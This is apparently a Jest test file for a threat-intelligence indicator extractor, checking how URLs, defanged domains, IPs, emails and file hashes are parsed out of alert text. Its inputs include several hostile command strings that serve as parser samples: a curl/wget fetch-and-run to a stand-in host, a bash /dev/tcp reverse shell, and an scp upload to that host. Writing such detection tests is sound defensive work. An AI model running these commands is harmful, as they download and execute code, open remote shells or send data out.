import { describe, expect, test } from '@jest/globals';
import { extractIndicators } from './extract-indicators.js';
import { compileMappings } from './mappings.js';

const md5 = '9f1c3b7e52d84a6fb0c7d1e2a3948576';
const otherMd5 = '0c4f7d2be1a95836c7d0e4b1f2a38967';
const sha1 = '4be1d09c7a3f52e6881b0d2c9f7e6a5b34c1d0ef';
const sha256 = '7d1e0b3c9a4f62581c0de7b8a9f3142536475869a0b1c2d3e4f5061728394a5b';

/** What an alert yields whose description is this text, without what follows from it: hosts of URLs. */
const found = (description: string): string[] =>
  extractIndicators({
    sourceName: 'generic',
    title: 'A report',
    description,
    rawPayload: { title: 'A report', description },
    statedIndicators: [],
    normalizedFields: {},
    mappings: compileMappings([]),
  })
    .indicators.filter(({ provenance }) => provenance[0]?.extractor !== 'url-host')
    .map(({ type, value }) => `${type} ${value}`)
    .sort();

describe('a URL in a text ends', () => {
  test.each([
    ['at the next command', 'curl http://evilnet.ru/p.sh;chmod +x p.sh', 'http://evilnet.ru/p.sh'],
    ['not at a parameter of its path', 'http://evilnet.ru/p;v1/q', 'http://evilnet.ru/p;v1/q'],
    ['at a tag', 'http://evilnet.ru/p.html</a><br></div>', 'http://evilnet.ru/p.html'],
    ['at a tag behind other words', '<td>http://evilnet.ru/p</td>', 'http://evilnet.ru/p'],
    ['at the end of an attribute', 'x="http://evilnet.ru/main"><a:data', 'http://evilnet.ru/main'],
    ['at an angle bracket', '<http://evilnet.ru/p?q=1>;', 'http://evilnet.ru/p?q=1'],
    ['at a quoted line', '>>http://evilnet.ru/p said', 'http://evilnet.ru/p'],
    ['at an entity', 'http://evilnet.ru/p&lt;/b&gt;', 'http://evilnet.ru/p'],
    ['where Markdown goes on', '[http://evilnet.ru/p](http://evilnet.ru/p)', 'http://evilnet.ru/p'],
    ['before the title of a link', '[a](http://evilnet.ru/p "b")', 'http://evilnet.ru/p'],
    ['at emphasis', '**http://evilnet.ru/p**', 'http://evilnet.ru/p'],
    ['at underscores around it', '_http://evilnet.ru/p_', 'http://evilnet.ru/p'],
    ['at typographic quotes', '“http://evilnet.ru/p”', 'http://evilnet.ru/p'],
    ['at German quotes', '„http://evilnet.ru/p“', 'http://evilnet.ru/p'],
    ['at guillemets', '‹http://evilnet.ru/p›', 'http://evilnet.ru/p'],
    ['at a full-width angle bracket', '＜http://evilnet.ru/p＞', 'http://evilnet.ru/p'],
    ['at a full-width bar', '｜http://evilnet.ru/p｜bar', 'http://evilnet.ru/p'],
    ['at a full-width bracket', '（http://evilnet.ru/p）', 'http://evilnet.ru/p'],
    ['at a corner bracket', '「http://evilnet.ru/p」', 'http://evilnet.ru/p'],
    ['at an ideographic comma', 'http://evilnet.ru/p，然后', 'http://evilnet.ru/p'],
    ['at a dash', 'http://evilnet.ru/p—then', 'http://evilnet.ru/p'],
    ['at the quote that opened before it', "x('http://evilnet.ru/p'+y)", 'http://evilnet.ru/p'],
    ['at the column of a CSV', 'url,http://evilnet.ru/p,Bad site', 'http://evilnet.ru/p'],
    ['at the end of a sentence', 'see http://evilnet.ru/p?q=1???', 'http://evilnet.ru/p?q=1'],
    ['at a bracket of the sentence', '(see http://evilnet.ru/p/), then', 'http://evilnet.ru/p/'],
    ['at a command', 'wget http://evilnet.ru/p|sh', 'http://evilnet.ru/p'],
    ['but not at its own brackets', 'http://evilnet.ru/a-(b-(c)).', 'http://evilnet.ru/a-(b-(c))'],
    ['but not at square ones', 'http://evilnet.ru/a_[b]', 'http://evilnet.ru/a_[b]'],
    ['but not at a pair of braces', 'http://evilnet.ru/{id}/x', 'http://evilnet.ru/{id}/x'],
    ['but not inside a word', "http://evilnet.ru/10'-x-30", "http://evilnet.ru/10'-x-30"],
    [
      'but not at its own commas',
      'http://evilnet.ru/0,,90-24.html',
      'http://evilnet.ru/0,,90-24.html',
    ],
    ['but not at a last dash', 'http://evilnet.ru/germany-inc-', 'http://evilnet.ru/germany-inc-'],
  ])('%s: %j', (_where, text, url) => {
    expect(found(text)).toEqual([`url ${url}`]);
  });

  test('before the next link, whose address is read as well', () => {
    expect(found('[a](https://www.evilnet.ru)[b](mailto:bob@evilnet.ru)')).toEqual([
      'email bob@evilnet.ru',
      'url https://www.evilnet.ru',
    ]);
  });
});

const SCHEMES = Object.entries({
  'hxxp://': 'http', 'HXXPS://': 'https', 'h**p://': 'http', 'http__': 'http', 'https:__': 'https', 'http:\\\\': 'http', 'http:// ': 'http',
  'hxxps[:]//': 'https', 'hxxp[://]': 'http', '(https)://': 'https', 'ftx://': 'ftp', 'sfxp://': 'sftp', 'fXps://': 'ftps', 'tcp://': 'tcp',
}); // prettier-ignore
const HOSTS = Object.entries({
  'evilnet[.]ru': 'evilnet.ru', 'evilnet[.ru': 'evilnet.ru', 'evilnet.]ru': 'evilnet.ru', 'evilnet(.)ru': 'evilnet.ru', 'evilnet[dot]ru': 'evilnet.ru',
  '185[.]7.33[.]9': '185.7.33.9', '185[.7.33.9': '185.7.33.9', 'a\\.evilnet\\.ru': 'a.evilnet.ru',
}); // prettier-ignore

describe('a defanged URL is read', () => {
  test.each(SCHEMES.flatMap(([from, to]) => HOSTS.map(([as, host]) => [from + as, to, host])))(
    'in %j',
    (written, scheme, host) => {
      expect(found(`${written}/gate.php?id=7`)).toEqual([`url ${scheme}://${host}/gate.php?id=7`]);
    },
  );

  test.each([
    ['hxxp://evilnet[dotru/p', 'http://evilnet.ru/p'],
    ['hxxp://evilnetdot]ru/p', 'http://evilnet.ru/p'],
    ['hxxp://evilnet.ru[/p', 'http://evilnet.ru/p'],
    ['hxxp://evilnet.ru/]p', 'http://evilnet.ru/p'],
    ['http://evilnet(.)ru(/)p', 'http://evilnet.ru/p'],
    ['https://evilnet\\(.\\)ru/p\\.html', 'https://evilnet.ru/p.html'],
    ['http://a \\. evilnet \\. com', 'http://a.evilnet.com'],
    ['http://evilnet[.]ru/p[.]htm', 'http://evilnet.ru/p.htm'],
    ['hxxp[:]//185[.]7[.]33[.]9[:]8080[/]p', 'http://185.7.33.9:8080/p'],
  ])('in %j', (written, url) => {
    expect(found(written)).toEqual([`url ${url}`]);
  });

  test.each([
    ['Target="http%3A%2F%2Fevilnet%2Eru%2Fwhite%2Ehta"/>', 'http://evilnet.ru/white.hta'],
    ['GET /go?to=http%3a%2f%2fevilnet.ru%2fp%3fb%3dc&x=1', 'http://evilnet.ru/p?b=c'],
    [
      'http://evilnet.ru/go?to=http%3A%2F%2Fa.net%2F',
      'http://evilnet.ru/go?to=http%3A%2F%2Fa.net%2F',
    ],
  ])('where a whole URL is percent-encoded: %j', (written, url) => {
    expect(found(written)).toEqual([`url ${url}`]);
  });
});

describe('a defanged address is read', () => {
  test.each([
    '10.20.30.]]]40', '10.20.30.)))40', '10.20.30[[[.40', '10[[[[.]]]]20[[[.]]30[.40', '10(((.]]]]20([[.)30.)40', '10.20.30\\\\\\\\.40',
    '10\\.20\\.30\\.40', '10[.]20(.30\\.40', '10[.20.]30[.40', '10[dot]20(dot)30{dot}40', '10 [.] 20 [.] 30 [.] 40', '10^.20^.30^.40',
    '.!@..10.20.30.40!@#-', 'bash -i >& /dev/tcp/10.20.30.40/4444', 'ssh root@10.20.30.40', '10.20.30 . 40',
  ])('in %j', (text) => {
    expect(found(text)).toEqual(['ip 10.20.30.40']);
  }); // prettier-ignore

  test('of IPv6 between punctuation', () => {
    expect(found('.!@..2001:db8::1!@#-')).toEqual(['ip 2001:db8::1']);
  });
});

describe('a defanged domain is read', () => {
  test.each([
    'www(.evilnet(.com', 'www.)evilnet.)com', 'www).)evilnet).)com', 'www).(evilnet).(com', 'www(.(evilnet(.(com', 'www).evilnet).com', 'www.(evilnet.(com',
    'www{.{evilnet{.{com', 'www].[evilnet].[com', 'www [.] evilnet [.] com', 'www[ . ]evilnet[[.]]com', 'www \\. evilnet \\. com', 'www\\.evilnet \\. com',
    'www.evilnet[dotcom', 'www.evilnetdot]com', 'www.evilnet (dot) com', 'www.evilnet . com', 'www<.>evilnet<.>com', '__www.evilnet.com__', '[www].evilnet.com',
  ])('in %j', (text) => {
    expect(found(text)).toEqual(['domain www.evilnet.com']);
  }); // prettier-ignore
});

describe('an e-mail address is read', () => {
  test.each([
    'bob @evilnet[.]com', 'bob@ evilnet[.]com', 'bob @ evilnet [ . ] com', 'bob@evilnet [.com', 'bob@evilnet  [[[[ [ [ [ . )]) com', 'bob { @ ) evilnet {  . ])] com',
    'bob [ at ] evilnet.com', 'bob { at ) evilnet {  doT ])] com', '-----bob@evilnet.com', 'Abc\\@bob@evilnet.com', '(comment)bob@evilnet.com', '＜bob@evilnet.com＞',
    'smtp.mailfrom=bob@evilnet.com', '[bob@evilnet.com](mailto:bob@evilnet.com)',
  ])('in %j', (text) => {
    expect(found(text)).toEqual(['email bob@evilnet.com']);
  }); // prettier-ignore

  test('but not how somebody logs in, of which the host is read', () => {
    expect(found('scp data.zip deploy@evilnet.com:/srv/in')).toEqual(['domain evilnet.com']);
  });
});

describe('the digest of a part of a file is no hash of the file', () => {
  const names = ['imphash', 'Import Hash', 'IMPHASH', 'authentihash', 'Rich header hash', 'ja3'];
  const separators = [' ', ': ', ':     ', '\t', '\n', '\n        ', ' - ', ' = ', ':\n', ' | '];

  test.each(names.flatMap((name) => separators.map((between) => name + between)))(
    'behind %j',
    (before) => {
      expect(found(`SHA-256 ${sha256}\n${before}${md5}\nSize 10`)).toEqual([
        `hash_sha256 ${sha256}`,
      ]);
    },
  );

  test('and is none where it is repeated without its name', () => {
    expect(found(`md5=${otherMd5} imphash=${md5}. All with ${md5} belong together.`)).toEqual([
      `hash_md5 ${otherMd5}`,
    ]);
  });

  test('nor where its name follows in brackets', () => {
    expect(found(`${md5} (imphash)`)).toEqual([]);
  });
});

describe('a link to a look-up site names what it is about', () => {
  test.each([
    [`https://www.virustotal.com/gui/file/${sha256}/detection`, `hash_sha256 ${sha256}`],
    [`hxxps://virustotal[.]com/#/file/${sha1}/detection`, `hash_sha1 ${sha1}`],
    [`https://www.hybrid-analysis.com/sample/${sha256}?environmentId=100`, `hash_sha256 ${sha256}`],
    [`https://bazaar.abuse.ch/sample/${sha256}/`, `hash_sha256 ${sha256}`],
    ['https://www.virustotal.com/gui/domain/evilnet.ru/detection', 'domain evilnet.ru'],
    ['https://www.abuseipdb.com/check/185.7.33.9', 'ip 185.7.33.9'],
  ])('in %j', (link, named) => {
    expect(found(`see ${link}`)).toContain(named);
    expect(found(link)).toContain(named);
  });

  test('also in a field, where the link itself is none', () => {
    const rawPayload = { vt_link: `https://www.virustotal.com/gui/file/${sha256}` };
    const { indicators } = extractIndicators({
      sourceName: 'generic',
      title: '',
      rawPayload,
      statedIndicators: [],
      normalizedFields: {},
      mappings: compileMappings([]),
    });
    expect(indicators.map(({ value }) => value)).toEqual([sha256]);
  });
});

describe('nothing is found', () => {
  test.each([
    'version 1.2.3.4 of Chrome 108.0.5359.71, v10.0.19041.5848, Firefox/102.0.1.2, Updated to 7.0.3.1',
    'invoice.pdf, setup.exe, a.zip, b.py, notes.md, run.sh, lib.so, x.rs, main.pl, path:to:file.pm, photo.mov',
    'os.path.join(a, b); console.log(x); self.name = foo.bar(); list[0].name, dict["a"].items()',
    'fn(a).then(b), x.(type), (*p).next, [...list].map(f), a = b[.5]; if (a.b(c).d) { e.f(); } // (see foo).bar',
    'System.Net.WebClient; java.lang.Runtime; org.springframework.web.Foo at com.acme.app.Main.run(Main.java:12)',
    'config.app.name user.name host.id event.info user=%user.name {{user.name}} 1.5.0.GA',
    '2024-05-01 12:30:45.123 and 2024.05.01, 01.02.2024 11.12.13, 2018.12.15.14.05.43',
    'GUID {6F9619FF-8B86-D011-B42D-00C04FC964FF} and ISBN 978-3-16-148410-0, S-1-5-21-1004336348-1177238915-682003330-512',
    'MAC 00:1A:2B:3C:4D:5E, aa-f2-c9-a6-b3-4f, acf2.c9a6.b34f, serial 0f:e9:73:75:20:22:a6:06:ad:f2:a3:6e:34:5d:c0:ed',
    'C:\\Users\\j.doe\\AppData\\Local\\Temp\\a.tmp \\\\.\\pipe\\msagent_12 HKLM\\Software\\Classes\\com.evil.app %SystemRoot%\\System32',
    'regex \\.com$ and ^\\w+\\.(?:com|net)$, sub-dot-product, asp(dotnet), test (dot product), me (at home) now',
    'He said (quietly). Then [sic]. Go on. Look at google . it is big. Price: 10 . 20 . 30. meet friends @ noon',
    'http:// http://. http://# :// http:///a rdar://1234 http://-evilnet.com http://.evilnet.invalid example.nope',
    'git clone git@github.com:org/repo.git, ssh git@bitbucket.org, git@github.com/org/repo, npm i @scope/pkg@1.2.3, icon@2x.png',
    'foobar@gmail.comahhhhhhhh @a.co myuser@ a@a "John..Doe"@evilnet.com myuser @ words. Sentence mailto:bar',
    '1.1.1.1.1 1.2.3.400 a1.2.3.4 1.2.3.4a 192.168.a.1 x.x.x.x 0.1234.5678 206.123[.]1[.]com',
    `uuid: ${md5} trace_id: ${md5} session ${md5} ETag: "${md5}" git checkout ${sha1} HEAD is now at ${sha1} test${md5}`,
    `-----BEGIN CERTIFICATE-----\n${md5}\n-----END CERTIFICATE-----`,
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/108.0.0.0 UCBrowser/11.1.1.850',
  ])('in %j', (text) => {
    expect(found(text)).toEqual([]);
  });

  test.each([
    'user: user.name',
    'user=source.user.name',
    'account_name: username',
    'User: TargetUserName',
  ])('where a template names a field in place of an account: %j', (text) => {
    expect(found(text)).toEqual([]);
  });
});

test.each([
  ['evilnet\u3002ru', 'evilnet.ru'],
  ['cdn\u3002evilnet\uff0eru', 'cdn.evilnet.ru'],
])('full stops of other scripts part the labels of %j', (written, domain) => {
  expect(found(`It asked for ${written} twice.`)).toEqual([`domain ${domain}`]);
});
